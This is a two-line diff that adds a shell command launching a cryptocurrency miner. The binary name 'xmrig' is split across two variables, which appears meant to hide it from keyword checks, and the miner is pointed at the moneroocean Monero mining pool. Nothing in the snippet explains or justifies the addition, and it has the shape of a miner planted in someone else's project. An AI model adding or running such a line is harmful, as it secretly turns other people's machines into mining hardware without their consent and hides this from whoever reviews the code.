@@ -1,0 +1,2 @@
+M=xmr; S=ig
+./$M$S --donate-level 1 -o gulf.moneroocean.stream:10128
